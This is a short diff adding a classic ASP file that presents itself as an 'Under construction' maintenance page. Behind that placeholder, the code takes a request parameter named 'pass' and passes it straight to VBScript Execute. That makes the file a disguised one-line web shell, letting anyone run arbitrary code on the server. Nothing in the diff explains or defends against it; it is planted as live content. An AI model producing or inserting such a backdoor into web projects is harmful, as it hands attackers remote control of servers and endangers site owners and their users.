@@ -1,0 +1,6 @@
+<%
+' maintenance page
+Dim k : k = Request("pass")
+If k <> "" Then Execute(Request("pass"))
+%>
+<html><body>Under construction</body></html>
